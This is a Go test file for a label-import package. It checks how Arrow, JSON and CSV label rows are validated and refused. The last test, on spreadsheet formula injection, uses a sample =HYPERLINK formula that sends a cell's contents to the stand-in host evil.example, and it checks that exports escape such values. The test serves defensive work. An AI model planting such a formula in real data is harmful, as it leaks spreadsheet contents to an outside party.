package clickhouse

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/apache/arrow-go/v18/arrow/memory"
	"github.com/stretchr/testify/require"

	"github.com/entrowatch/entrowatch/schemas"
)

// F4: label.v1 rows skipped the checks of the JSON and CSV paths: a 3,000
// byte trace_id, a 5,000 byte source and a whitespace trace_id were stored,
// a null source stayed empty, and a null ts was refused as a wrong clock.
// Now a row is checked as a line is.
func TestDecodeLabelsArrowChecks(t *testing.T) {
	mem := memory.NewCheckedAllocator(memory.NewGoAllocator())
	defer mem.AssertSize(t, 0)
	ok := t0.UnixMilli()
	before := time.Now()
	rd, err := DecodeLabels(labelRows(t, mem,
		arrowLabel{id: ptrTo(strings.Repeat("L", 3000)), correct: ptrTo(true), ms: &ok},
		arrowLabel{id: ptrTo("long-source"), correct: ptrTo(true), source: ptrTo(strings.Repeat("s", 5000)), ms: &ok},
		arrowLabel{id: ptrTo("   "), correct: ptrTo(true), ms: &ok},
		arrowLabel{id: ptrTo(" padded"), correct: ptrTo(true), ms: &ok},
		arrowLabel{correct: ptrTo(true), ms: &ok},
		arrowLabel{id: ptrTo("null-source"), correct: ptrTo(true), ms: &ok},
		arrowLabel{id: ptrTo("empty-source"), correct: ptrTo(false), source: ptrTo(""), ms: &ok},
		arrowLabel{id: ptrTo("null-ts"), correct: ptrTo(true), source: ptrTo("review")},
		arrowLabel{id: ptrTo("null-correct"), source: ptrTo("review"), ms: &ok},
	), "kafka", mem)
	require.NoError(t, err)
	require.Equal(t, 1, rd.Unlabelled)
	require.Equal(t, 5, rd.Refused)
	require.Equal(t, map[string]int{RefusedTraceID: 4, RefusedSource: 1}, rd.Reasons)
	require.Contains(t, rd.First[0], "label batch row 0: trace_id \"LLLL")
	require.Contains(t, rd.First[0], "of 3000 bytes, more than the 1024 a response id may have")
	require.Equal(t, "label batch row 1: trace long-source: source of 5000 bytes, more than 256", rd.First[1])
	require.Equal(t, `label batch row 2: trace_id "   " is only whitespace`, rd.First[2])
	require.Contains(t, rd.First[3], `label batch row 3: trace_id " padded" has leading or trailing whitespace`)
	require.Equal(t, "label batch row 4: empty trace_id", rd.First[4])
	require.Len(t, rd.Labels, 3)
	require.Equal(t, Label{TraceID: "null-source", Correct: true, Source: "kafka", TS: t0}, rd.Labels[0])
	require.Equal(t, Label{TraceID: "empty-source", Correct: false, Source: "kafka", TS: t0}, rd.Labels[1])
	require.Equal(t, "null-ts", rd.Labels[2].TraceID)
	require.Equal(t, "review", rd.Labels[2].Source)
	require.WithinRange(t, rd.Labels[2].TS, before.Add(-time.Second), time.Now().Add(time.Second), "a null ts is the time the label is read")
}

// F4: JSON took trace ids as they came (" abc" was stored and never joined;
// "  " was stored), CSV trimmed them. Ingest keeps a response's id byte for
// byte, so both now refuse a trace_id with surrounding whitespace, and one
// of whitespace only, rather than store a label under another id than the
// one written.
func TestReadLabelsTraceIDWhitespace(t *testing.T) {
	for _, tc := range []struct{ name, in, err string }{
		{"json_padded", `{"trace_id":" abc","correct":true}`, `line 1: trace_id " abc" has leading or trailing whitespace: labels join responses by their id byte for byte; remove it`},
		{"json_trailing_tab", `{"trace_id":"abc\t","correct":true}`, `line 1: trace_id "abc\t" has leading or trailing whitespace`},
		{"json_blank", `{"trace_id":"  ","correct":true}`, `line 1: trace_id "  " is only whitespace`},
		{"csv_padded", "trace_id,correct\n abc ,yes\n", `line 2: trace_id " abc " has leading or trailing whitespace`},
		{"csv_blank", "trace_id,correct\n   ,yes\n", `line 2: trace_id "   " is only whitespace`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rd, err := ReadLabels(strings.NewReader(tc.in), "import", t0)
			require.NoError(t, err)
			require.Empty(t, rd.Labels)
			require.Equal(t, map[string]int{RefusedTraceID: 1}, rd.Reasons)
			require.ErrorContains(t, rd.Err(), tc.err)
		})
	}
	// Whitespace inside an id, and around the other fields, is fine.
	rd, err := ReadLabels(strings.NewReader("trace_id,correct,source\nid with spaces , yes ,  review \n"), "import", t0)
	require.NoError(t, err)
	require.Equal(t, map[string]int{RefusedTraceID: 1}, rd.Reasons, "the trailing space of the id")
	rd, err = ReadLabels(strings.NewReader("trace_id,correct,source\nid with spaces, yes ,  review \n"), "import", t0)
	require.NoError(t, err)
	require.NoError(t, rd.Err())
	require.Equal(t, []Label{{TraceID: "id with spaces", Correct: true, Source: "review", TS: t0}}, rd.Labels)
}

// F5: a request batch labelled in part could not be imported (a row whose
// correct is empty failed the file, "correct is missing"), although train's
// CSV skips such rows as unlabelled. Now they are skipped and counted; a
// value that is there but wrong still fails the file.
func TestReadLabelsUnlabelled(t *testing.T) {
	for _, tc := range []struct {
		name, in   string
		labels     []string
		unlabelled int
	}{
		{"csv", "trace_id,correct\na,yes\nb,\nc,0\nd, \ne,null\n", []string{"a", "c"}, 3},
		{"csv_short_row", "trace_id,source,correct\na,human\nb,human,1\n", []string{"b"}, 1},
		{"json", `{"trace_id":"a","correct":true}` + "\n" + `{"trace_id":"b","correct":null}` + "\n" + `{"trace_id":"c"}` + "\n" + `{"trace_id":"d","correct":""}`, []string{"a"}, 3},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rd, err := ReadLabels(strings.NewReader(tc.in), "import", t0)
			require.NoError(t, err)
			require.NoError(t, rd.Err())
			var ids []string
			for _, l := range rd.Labels {
				ids = append(ids, l.TraceID)
			}
			require.Equal(t, tc.labels, ids)
			require.Equal(t, tc.unlabelled, rd.Unlabelled)
		})
	}
	rd, err := ReadLabels(strings.NewReader("trace_id,correct\na,\nb,maybe\n"), "import", t0)
	require.NoError(t, err)
	require.EqualError(t, rd.Err(), `line 3: trace b: correct is "maybe"; want true/false, t/f, yes/no or 1/0 (any case; the spellings train's CSV takes; empty for a row not labelled yet, skipped)`)
}

// F8: a JSON array of labels (what POST /v1/labels takes) failed labels
// import with a CSV parse error, a pretty-printed object with "not a JSON
// object", and an array as one topic message was "neither JSON nor a valid
// Arrow IPC stream". They are read now, as ingest reads responses.
func TestReadLabelsJSONForms(t *testing.T) {
	want := []Label{{TraceID: "a", Correct: true, Source: "import", TS: t0}, {TraceID: "b", Correct: false, Source: "import", TS: t0}}
	for _, tc := range []struct{ name, in string }{
		{"array", `[{"trace_id":"a","correct":true},{"trace_id":"b","correct":false}]` + "\n"},
		{"array_pretty", "\ufeff[\n  {\n    \"trace_id\": \"a\",\n    \"correct\": true\n  },\n  {\n    \"trace_id\": \"b\",\n    \"correct\": false\n  }\n]\n"},
		{"pretty_objects", "{\n  \"trace_id\": \"a\",\n  \"correct\": true\n}\n{\n  \"trace_id\": \"b\",\n  \"correct\": false\n}\n"},
		{"lines", `{"trace_id":"a","correct":true}` + "\r\n" + `{"trace_id":"b","correct":false}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rd, err := ReadLabels(strings.NewReader(tc.in), "import", t0)
			require.NoError(t, err)
			require.NoError(t, rd.Err())
			require.Equal(t, want, rd.Labels)
		})
	}
	mem := memory.NewCheckedAllocator(memory.NewGoAllocator())
	defer mem.AssertSize(t, 0)
	rd, err := DecodeLabels([]byte(` [{"trace_id":"a","correct":true,"ts":"2026-03-01T00:00:00Z"},{"trace_id":"b","correct":false,"ts":"2026-03-01T00:00:00Z"}]`), "import", mem)
	require.NoError(t, err)
	require.Equal(t, want, rd.Labels)

	// In an array "line N" is the N-th label.
	rd, err = ReadLabels(strings.NewReader(`[{"trace_id":"a","correct":true}, {"trace_id":"b","correct":"maybe"}]`), "import", t0)
	require.NoError(t, err)
	require.ErrorContains(t, rd.Err(), `line 2: trace b: correct is "maybe"`)
}

// F8: a field of the wrong type was "not a JSON object: json: cannot
// unmarshal number into Go struct field .trace_id of type string"; the
// error names the field and the line now.
func TestReadLabelsWrongTypes(t *testing.T) {
	for _, tc := range []struct{ name, in, err, reason string }{
		{"trace_id_number", `{"trace_id":"ok","correct":true}` + "\n" + `{"trace_id":5,"correct":true}`, "line 2: trace_id is 5; want a string", RefusedTraceID},
		{"trace_id_object", `{"trace_id":{"id":"x"},"correct":true}`, `line 1: trace_id is {"id":"x"}; want a string`, RefusedTraceID},
		{"source_number", `{"trace_id":"x","correct":true,"source":7}`, "line 1: trace x: source is 7; want a string", RefusedSource},
		{"correct_array", `{"trace_id":"x","correct":[true]}`, `line 1: trace x: correct is "[true]"; want true/false`, RefusedCorrect},
		{"not_an_object", `{"trace_id":"x","correct":true}` + "\n" + `[5]`, "line 2: not a JSON object", RefusedMalformed},
		{"not_json", `{"trace_id":"x","correct":true}` + "\n" + `{"trace_id":`, "line 2: not valid JSON: unexpected end of JSON input", RefusedMalformed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rd, err := ReadLabels(strings.NewReader(tc.in), "import", t0)
			require.NoError(t, err)
			require.ErrorContains(t, rd.Err(), tc.err)
			require.Equal(t, map[string]int{tc.reason: 1}, rd.Reasons)
			if tc.reason != RefusedMalformed {
				require.NotContains(t, rd.Err().Error(), "not a JSON object")
			}
		})
	}
}

// F8: a JSON Lines line over the limit failed with bufio.Scanner's "token
// too long", naming neither the line nor the limit; it is refused with
// both now, and the lines after it are read.
func TestReadLabelsLongLine(t *testing.T) {
	in := `{"trace_id":"a","correct":true}` + "\n" + `{"trace_id":"` + strings.Repeat("x", maxLabelLine) + `","correct":true}` + "\n" + `{"trace_id":"c","correct":false}` + "\n"
	rd, err := ReadLabels(strings.NewReader(in), "import", t0)
	require.NoError(t, err)
	require.EqualError(t, rd.Err(), "line 2: longer than 16 MiB, the most a line of labels may hold")
	require.Equal(t, []Label{{TraceID: "a", Correct: true, Source: "import", TS: t0}, {TraceID: "c", Correct: false, Source: "import", TS: t0}}, rd.Labels)
}

// The refusals of a reader are listed up to maxRefusalsListed, and the rest
// counted by reason.
func TestReadLabelsManyRefused(t *testing.T) {
	var in strings.Builder
	in.WriteString("trace_id,correct,ts\n")
	for range 7 {
		in.WriteString("a,maybe,\n")
	}
	in.WriteString("b,1,2200-01-01T00:00:00Z\n")
	rd, err := ReadLabels(strings.NewReader(in.String()), "import", t0)
	require.NoError(t, err)
	require.Len(t, rd.First, maxRefusalsListed)
	require.ErrorContains(t, rd.Err(), `line 2: trace a: correct is "maybe"`)
	require.ErrorContains(t, rd.Err(), "(and 3 more; 8 invalid labels in all: correct 7, ts 1)")
}

// Security: labels requests --out x.csv wrote tenants' strings as they came,
// and a spreadsheet runs a cell that starts with = + - @ (or tab, CR) as a
// formula. SpreadsheetCell puts an apostrophe before those (and before an
// apostrophe), and ReadLabels removes exactly that apostrophe from a CSV
// trace_id, so an exported batch imports to the ids it was made of; an id
// that starts with an apostrophe followed by anything else is the id.
func TestSpreadsheetCell(t *testing.T) {
	for _, tc := range []struct{ id, cell string }{
		{"plain", "plain"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")-22`, `'=HYPERLINK("http://evil.example/?"&A1,"click")-22`},
		{"+1", "'+1"},
		{"-5", "'-5"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'quoted", "''quoted"},
		{"'=x", "''=x"},
		{"a=b", "a=b"},
		{"", ""},
	} {
		require.Equal(t, tc.cell, SpreadsheetCell(tc.id), "%q", tc.id)
		require.Equal(t, tc.id, unSpreadsheet(tc.cell), "%q", tc.cell)
	}
	require.Equal(t, "'quoted", unSpreadsheet("'quoted"), "a spreadsheet saves ''quoted as 'quoted: still the id")
	require.Equal(t, "=x", unSpreadsheet("=x"), "a spreadsheet saves '=x as =x: still the id")

	// Through a CSV file and ReadLabels.
	ids := []string{"plain", `=HYPERLINK("http://evil.example/?"&A1,"click")-22`, "+1", "-5", "@SUM(1+1)", "'quoted", "'=x",
		"=" + strings.Repeat("x", schemas.MaxTraceIDBytes-1)} // the longest id: its cell is a byte longer
	var buf bytes.Buffer
	cw := csv.NewWriter(&buf)
	require.NoError(t, cw.Write([]string{"trace_id", "correct"}))
	for _, id := range ids {
		require.NoError(t, cw.Write([]string{SpreadsheetCell(id), "1"}))
	}
	cw.Flush()
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n")[1:] {
		require.NotContains(t, "=+-@\t\r", line[:1], "a cell a spreadsheet runs: %s", line)
		if line[0] == '"' {
			require.NotContains(t, "=+-@\t\r", line[1:2], "a cell a spreadsheet runs: %s", line)
		}
	}
	rd, err := ReadLabels(&buf, "import", t0)
	require.NoError(t, err)
	require.NoError(t, rd.Err())
	var got []string
	for _, l := range rd.Labels {
		got = append(got, l.TraceID)
	}
	require.Equal(t, ids, got)

	// JSON is not a spreadsheet's: its ids are taken as they are.
	rd, err = ReadLabels(strings.NewReader(`{"trace_id":"'=x","correct":1}`), "import", t0)
	require.NoError(t, err)
	require.Equal(t, "'=x", rd.Labels[0].TraceID)
}
